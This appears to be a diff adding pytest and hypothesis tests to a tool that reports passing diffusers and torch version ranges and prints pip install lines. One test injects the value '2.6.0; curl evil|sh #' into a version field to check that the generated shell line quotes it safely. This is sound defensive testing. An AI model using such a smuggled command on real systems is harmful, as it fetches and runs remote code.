@@ -3,11 +3,13 @@
 from __future__ import annotations
 
 import json
+import shlex
 from typing import Any
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from packaging.version import Version
 
 from reports.answers import Answers, install_line
 from reports.dataset import Column, DatasetModel, KeptEnvironment
@@ -106,11 +108,103 @@ def test_the_newest_good_is_the_newest_that_was_measured_good(verdicts: list[tup
     assert newest == ("e" + good[-1] if good else None)
 
 
+def test_a_range_never_jumps_over_what_is_bad() -> None:
+    """Asked for what passes only: the bad one in between ends the range all the same."""
+    (line,) = _ask(_dataset([GOOD, GOOD, BAD, GOOD]), "verdict=pass").lines
+    assert [span.versions["diffusers"] for span in line.spans] == [("0.30.0", "0.31.0"), ("0.33.0", "0.33.0")]
+
+
+@given(
+    st.lists(
+        st.tuples(st.integers(0, 3), st.integers(0, 3), st.sampled_from([GOOD, BAD])),
+        min_size=1,
+        max_size=10,
+        unique_by=lambda row: row[:2],
+    )
+)
+def test_a_range_holds_nothing_else(rows: list[tuple[int, int, tuple[str, str, str]]]) -> None:
+    """No environment with another verdict has all its versions within a range, whatever the versions are."""
+    dataset = _dataset([verdict for _, _, verdict in rows])
+    environments = []
+    for entry, (diffusers, torch, _) in zip(reversed(dataset.environments), rows, strict=True):
+        installed = {"diffusers": f"0.{diffusers}.0", "torch": f"2.{torch}.0"}
+        environments.append(entry.model_copy(update={"installed": installed}))
+    (line,) = _ask(dataset.model_copy(update={"environments": environments}), "pipeline=sd15").lines
+    told = [identifier for span in line.spans for identifier in span.environments]
+    assert sorted(told) == sorted(entry.id for entry in environments)
+    for span in line.spans:
+        inside = {
+            entry.id
+            for entry in environments
+            if all(
+                Version(low) <= Version(entry.installed[name]) <= Version(high)
+                for name, (low, high) in span.versions.items()
+            )
+        }
+        verdicts = {entry.id: verdict[0] for entry, (_, _, verdict) in zip(environments, rows, strict=True)}
+        assert {verdicts[identifier] for identifier in inside} == {span.verdict}
+
+
+def test_a_pipeline_that_was_not_measured_there_is_not_good_there() -> None:
+    """Named in the question, it must have passed in the environment itself."""
+    answer = _ask(_dataset([GOOD, GOOD]), "pipeline=sd15,any")
+    assert _newest(answer) == "e0.31.0"
+    both = _dataset([GOOD, GOOD])
+    columns = {**both.columns, "axes.pipeline": Column.of(["sd3", "sd15"])}
+    assert _newest(_ask(both.model_copy(update={"columns": columns}), "pipeline=sd15,sd3")) is None
+
+
+def test_environments_that_differ_in_python_only_are_told_apart() -> None:
+    """Their ranges, their order and their words have the Python, too; nothing is said of it where it tells nothing."""
+    dataset = _dataset([GOOD, BAD])
+    same = {"diffusers": "0.30.0", "torch": "2.13.0"}
+    environments = [
+        entry.model_copy(update={"installed": same, "exact": {"python": python, **same}})
+        for entry, python in zip(reversed(dataset.environments), ("3.9", "3.13"), strict=True)
+    ]
+    (line,) = _ask(dataset.model_copy(update={"environments": environments}), "pipeline=sd15").lines
+    assert [(span.verdict, span.versions["python"]) for span in line.spans] == [
+        ("pass", ("3.9", "3.9")),
+        ("orphan-meta", ("3.13", "3.13")),
+    ]
+    assert "python" not in _ask(dataset, "pipeline=sd15").lines[0].spans[0].versions
+
+
+def test_what_is_good_in_one_way_to_load_is_told() -> None:
+    """Where the ways to load were left open and one of them fails, the newest good set of the others is said."""
+    dataset = _dataset([GOOD, BAD])
+    columns = {**dataset.columns, "axes.load": Column.of(["pretrained", "single_file"])}
+    environment = [dataset.columns["environment"][0]] * 2
+    columns["environment"] = Column.of(environment)
+    answer = _ask(dataset.model_copy(update={"columns": columns}), "pipeline=sd15")
+    assert answer.newest_good is None
+    assert list(answer.good_by_load) == ["pretrained"]
+
+
+def test_a_set_that_fails_in_another_life_says_so() -> None:
+    """The newest good set is good for one image; the lifecycles in which it fails are named."""
+    dataset = _dataset([GOOD, BAD])
+    columns = {**dataset.columns, "axes.lifecycle": Column.of(["single", "move"])}
+    columns["environment"] = Column.of([dataset.columns["environment"][0]] * 2)
+    answer = _ask(dataset.model_copy(update={"columns": columns}), "pipeline=sd15")
+    assert (_newest(answer), answer.bad_lifecycles) == ("e0.30.0", ("move",))
+
+
+def test_lines_to_copy_are_words_for_a_shell() -> None:
+    """Whatever a version holds, it stays one word."""
+    dataset = _dataset([GOOD])
+    evil = {"torch": "2.6.0; curl evil|sh #", "diffusers": "0.30.0"}
+    environment = dataset.environments[0].model_copy(update={"installed": evil, "exact": evil})
+    line = _install(_ask(dataset.model_copy(update={"environments": [environment]}), "pipeline=sd15"))
+    assert shlex.split(line) == ["pip", "install", "torch==2.6.0; curl evil|sh #", "diffusers==0.30.0"]
+
+
 def test_ranges_and_builds() -> None:
     """A range is over installed versions, and the build of a wheel does not matter to who asks."""
     dataset = _dataset([GOOD] * 10)
     assert sum(_ask(dataset, "diffusers>=0.31,<0.33").counts.values()) == 2
     assert sum(_ask(dataset, "torch=2.13.0", "diffusers=0.30.0,0.39.0").counts.values()) == 2
+    assert sum(_ask(dataset, "torch=2.13.0+cpu").counts.values()) == 10
     assert _install(_ask(dataset, "pipeline=sd15")) == "pip install torch==2.13.0 diffusers==0.39.0"
 
 
@@ -119,6 +213,8 @@ def test_a_miss_says_what_is_near() -> None:
     answer = _ask(_dataset([GOOD, BAD]), "torch=2.9.1", "pipeline=sd15")
     assert not answer.lines
     assert answer.near == ("with any torch: 2 cells; measured: 2.13.0",)
+    far = _ask(_dataset([GOOD, BAD]), "torch=2.9.1", "diffusers=0.99")
+    assert far.near == ("torch: measured: 2.13.0", "diffusers: measured: 0.30.0, 0.31.0")
 
 
 def test_what_is_left_open_is_said() -> None:
@@ -176,6 +272,8 @@ def test_what_does_not_exist_is_answered_with_its_proof() -> None:
         ("pipeline=sd16", "did you mean 'sd15'"),
         ("pipeline>=sd15", "names, not numbers"),
         ("diffusers=new", "is no version or range"),
+        ("torch=" + "1" * 5000, "is no version or range"),
+        ("pipeline=SD15", "did you mean 'sd15'"),
         ("diffusers>=", "is no version or range"),
         ("sdxl", "is no term"),
         ("numpy=1", "nothing was measured about 'numpy'"),
